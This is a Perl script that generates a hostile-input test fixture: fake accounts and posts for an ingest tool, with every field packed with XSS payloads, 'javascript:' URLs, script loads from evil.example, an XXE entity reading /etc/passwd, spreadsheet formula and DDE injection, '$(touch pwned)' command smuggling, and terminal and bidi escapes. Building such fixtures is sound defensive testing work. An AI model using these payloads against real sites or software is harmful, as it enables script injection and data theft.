#!/usr/bin/perl
# Writes posts and accounts, as ingest would, of made-up people whose every name, text and address
# tries to break out of the page, table or document that shows it: hostile_case.pl FOLDER
# posts.jsonl: eight accounts that post the same attacks within minutes, and two hundred that do not;
# seeds.txt, themes.jsonl, note.txt, title.txt, analyst.txt. The same bytes in every run.
use strict;
use warnings;

my ($folder) = @ARGV;
defined $folder or die "usage: hostile_case.pl FOLDER\n";

# One JSON string in UTF-8; controls and lone surrogates are escaped.
sub json {
    my ($text) = @_;
    return 'null' unless defined $text;
    $text =~ s/([\\"\x00-\x1f\x7f-\x9f\x{d800}-\x{dfff}])/sprintf '\\u%04x', ord $1/ge;
    utf8::encode($text);
    return "\"$text\"";
}

sub json_list { return '[' . join(',', map { json($_) } @_) . ']' }

# A generator of its own: perl's rand differs between machines.
my $state = 20240304;
sub draw {
    my ($n) = @_;
    $state = ($state * 1103515245 + 12345) % 2147483648;
    return ($state >> 8) % $n;
}

no warnings 'surrogate', 'nonchar';
my $run = 'window.__pwned=1;alert(1)';
my @attacks = (
    "<script>$run</script>", "</script><script>$run</script>", "<SCRIPT SRC=//evil.example/x.js>",
    "<img src=x onerror=\"$run\">", "\"><svg onload=$run><desc>", "' onmouseover='$run' autofocus='",
    "</title></style></textarea></noscript><script>$run</script>", "<!-- <script>$run</script>",
    "--><script>$run</script><!--", "<![CDATA[<script>$run</script>", "]]><script>$run</script>",
    "</text></svg><foreignObject><iframe srcdoc='<script>parent.$run</script>'>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='$run'/>#x\"/></svg>",
    "<svg><animate onbegin=$run attributeName=x dur=1s>", "<style>*{background:url(//evil.example)}",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/><form action=//evil.example><button>", "<details open ontoggle=$run>",
    "<a href=\"javascript:$run\">press</a>", "javascript:$run", "data:text/html,<script>$run</script>",
    "<template><p id=key></template><section id=limits>", "</bdi></p></td></tr></table></main></body></html>",
    "&lt;script&gt;$run&lt;/script&gt; &#60;b&#62; &amp;amp; &nosuch; &#0; &#x202e;",
    "%3Cscript%3E$run%3C/script%3E", "{{constructor.constructor('$run')()}} \${$run} <%= $run %>",
    "[press](javascript:$run) ![](https://evil.example/p.png) <https://evil.example>",
    "```\n# head\n| a | b |\n---\n> quote <details>", "\"]; evil [label=<<b>x</b>>, URL=\"javascript:$run\"",
    "</data></node><node id=\"evil\"/>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "=HYPERLINK(\"https://evil.example\",\"press\")", "+1+cmd|' /C calc'!A0", "-2+3", "\@SUM(1+1)",
    "\t=1+1", "\r=1+1", "\n=1+1", "\x{ff1d}1+1", "\",=1+1,\"", "';=1+1",
    "\$(touch pwned) `touch pwned` '; touch pwned; ' \\", "%s%n%x {} {0} \\0 \\u0000",
    "\x{202e}gnp.exe\x{202c} \x{2066}\x{2067}\x{2068} \x{200f}\x{061c}", "\x{202e}" x 50,
    "a\x00b\x01\x07\x08\x0b\x0c\x1f\x7f\x{85}\x{9b}31m", "\x1b[31mred\x1b[2J\x1b]0;title\x07\x1b]8;;https://evil.example\x07",
    "\x{d800} \x{dfff}x\x{dc00}\x{d800}", "\x{fffe}\x{ffff}\x{fdd0}\x{10ffff}\x{1fffe}",
    "line\x{2028}separator\x{2029}paragraph", "zero\x{200b}width\x{200c}\x{200d}\x{2060}\x{feff}\x{180e}",
    "tags\x{e0041}\x{e0042}\x{e007f} \x{fff9}a\x{fffa}b\x{fffb}", "Z" . "\x{0301}\x{0489}\x{20dd}" x 200,
    "\x{fdfd}\x{12031}\x{a9c5}" x 20, "", " ", "\x{3164}\x{115f}",
);

# Pieces of two attacks, with something nasty at the seam.
my @seams = ("\x00", "\x{202e}", "\x{d83d}", "<", "\"", "'", "&", "]]>", "\x{301}", "\x{2028}", "-->", "/");
sub mutated {
    my ($one, $other) = map { $attacks[draw(scalar @attacks)] } 1 .. 2;
    return substr($one, 0, draw(1 + length $one)) . $seams[draw(scalar @seams)]
        . substr($other, draw(1 + length $other));
}
push @attacks, map { mutated() } 1 .. 80;

my $marks = 'o' . "\x{0300}\x{0316}\x{0489}" x 170_000;    # 1 MB of UTF-8
my $some_marks = substr $marks, 0, 3000;
my $word = 'unbroken' x 12_500;                            # 100 kB

sub time_of {
    my ($s) = @_;
    return sprintf '2024-03-%02dT%02d:%02d:%02dZ', 4 + int($s / 86400), int($s % 86400 / 3600),
        int($s % 3600 / 60), $s % 60;
}

my @lines;
my $n_posts = 0;

sub post {
    my ($account, $text, $s, %more) = @_;
    my $n = ++$n_posts;
    my $url = $more{url} // "https://social.example/$n";
    push @lines, '{"type":"post","uid":' . json("$account->{platform}:p$n" . ($more{uid} // '')) . ',"platform":'
        . json($account->{platform}) . ',"url":' . json($url) . ',"created_at":' . json(time_of($s))
        . ',"created_at_precision_s":1,"collected_at":null,"account_uid":' . json($account->{uid})
        . ',"account_handle":' . json($account->{handle}) . ',"account_name":' . json($account->{name})
        . ',"text":' . json($text) . ',"lang":' . json($more{lang} // 'en')
        . ',"post_type":"original","conversation_uid":null,"reply_to_uid":null,"reply_to_account_uid":'
        . json($more{answers}) . ',"repost_of_uid":null,"quote_of_uid":null,"hashtags":'
        . json_list(@{$more{hashtags} // []}) . ',"mentions":' . json_list(@{$more{mentions} // []})
        . ',"urls":' . json_list(@{$more{urls} // []}) . ',"url_keys":' . json_list(@{$more{urls} // []})
        . ',"url_shortened":[' . join(',', map { 'false' } @{$more{urls} // []})
        . '],"media":[],"likes":3,"replies":1,"reposts":2,"quotes":0,"views":90,"source_file":'
        . json("posts<script>.jsonl") . ',"source_line":' . $n . '}';
}

sub account {
    my ($account, $i) = @_;
    my $attack = $attacks[$i % @attacks];
    push @lines, '{"type":"account","uid":' . json($account->{uid}) . ',"platform":'
        . json($account->{platform}) . ',"handle":' . json($account->{handle}) . ',"name":'
        . json($account->{name}) . ',"bio":' . json("$attack $attacks[($i + 7) % @attacks]") . ',"url":'
        . json($i % 2 ? "javascript:$run" : "https://evil.example/\"><script>$run</script>")
        . ',"created_at":"2023-11-05T10:00:00Z","created_at_precision_s":1,"location":' . json($attack)
        . ',"verified":false,"followers":' . (100 + $i) . ',"following":5,"posts":70,"avatar":'
        . json("javascript:$run") . ',"collected_at":null,"source_file":"accounts.jsonl","source_line":'
        . ($i + 1) . '}';
}

my @members = map {
    my $platform = $_ == 7 ? 'x"><script>' : $_ % 2 ? 'x' : 'vk';
    { platform => $platform, uid => "$platform:" . ($_ == 6 ? "<svg onload=$run>" : 900 + $_),
      handle => '@' . $attacks[$_ * 5], name => $attacks[$_ * 5 + 2] }
} 0 .. 7;
$members[2]{handle} = '@' . $some_marks;
$members[3]{name} = $word;
$members[4]{handle} = "\@\x{202e}=1+1\x00";
$members[5]{handle} = '=HYPERLINK("https://evil.example")';
my @others = map {
    { platform => 'x', uid => "x:2$_", handle => "\@someone$_", name => $attacks[$_ % @attacks] }
} 100 .. 299;
account($members[$_], $_) for 0 .. $#members;
account($others[$_], $_ + 20) for 0 .. $#others;

# Each attack among words enough for a copy to be recognised, by several members within minutes.
my @words = qw(river market window garden school bridge council paper harbour winter teacher mountain
    kitchen answer letter evening station village doctor morning);
sub sentence { return join ' ', map { $words[draw(scalar @words)] } 1 .. $_[0] }
for my $i (0 .. $#attacks) {
    my $words = sentence(12);
    my $begin = 3600 * 8 + 8000 * $i;
    for my $j (0 .. $#members) {
        next if draw(8) >= 4;
        post($members[$j], "$attacks[$i] $words $attacks[($i + 3) % @attacks]", $begin + 41 * $j,
            hashtags => ["$attacks[$i % 50]$i"], mentions => ["x:\@$attacks[$i % 40]"],
            urls => ["https://evil$i.example/" . $attacks[$i % 30], "javascript:$run//$i"],
            answers => "x:$attacks[$i % 20]", lang => $attacks[$i % 25],
            $i % 3 ? () : (url => "javascript:$run"), $i % 5 ? () : (uid => $attacks[$i]));
    }
}
for my $j (0 .. $#members) {
    post($members[$j], "$marks the same marks again and again in one post", 90_000 + 30 * $j);
    post($members[$j], "$word the same word again and again in one post", 95_000 + 30 * $j,
        hashtags => [$word], urls => ["https://evil.example/$word"]);
}
for my $account (@others) {
    post($account, sentence(14) . ' ' . $attacks[draw(scalar @attacks)], draw(12 * 86400)) for 1 .. 4;
}

sub save {
    my ($name, @content) = @_;
    open my $file, '>', "$folder/$name" or die "$folder/$name: $!\n";
    print {$file} @content;
    close $file or die "$folder/$name: $!\n";
}

# What an analyst pastes; arguments and notes are UTF-8, so nothing that has none.
my $pasted = join ' ', grep { !/[\x00\x{d800}-\x{dfff}\x{fdd0}\x{fffe}\x{ffff}\x{1fffe}\x{10ffff}]/ } @attacks;
utf8::encode($pasted);
# As if ingest had read files of such names.
my $n_accounts = @members + @others;
push @lines, '{"type":"run","tool":"ingest","version":"0.1.0","arguments":' . json_list("--limit=\$(touch pwned)", "--account='; touch pwned; '")
    . ',"parameters":{"limit":' . json("`touch pwned`") . '},"inputs":['
    . join(',', map { '{"name":' . json($_) . ',"bytes":9,"sha256":"' . 'ab' x 32 . '"}' }
        "\$(touch pwned)<script>$run</script>.jsonl", "-rf '\n touch pwned \n", "\x{202e}=1+1\x1b[31m.csv")
    . '],"auxiliary":[],"records_in":{},"records_out":{"account":' . $n_accounts . ",\"post\":$n_posts,\"run\":1},"
    . '"rejected":3,"conflicting":0,"notes":' . json_list("<script>$run</script>", "\x1b]0;x\x07\x{202e}")
    . ',"input_complete":true,"exit_status":0}';
save('posts.jsonl', map { "$_\n" } @lines);
save('seeds.txt', "x:901\nvk:900\n");
save('note.txt', $pasted, "\n\n", 'unbroken' x 2000, "\n");
save('title.txt', "</title><script>$run</script> \$(touch pwned) =1+1 \xe2\x80\xae ", 'unbroken' x 200);
save('analyst.txt', "-->\"'><img src=x onerror=$run> `touch pwned`");
save('themes.jsonl', map { '{"name":' . json($_->[0]) . ',"stance":' . json($_->[1]) . ",\"patterns\":[\"$_->[2]\"]}\n" }
    ["<script>$run</script>", "\x{202e}</td>", 'script'], ["=1+1", "\x1b[31m", 'evil'],
    [$some_marks, $word, 'river|market']);
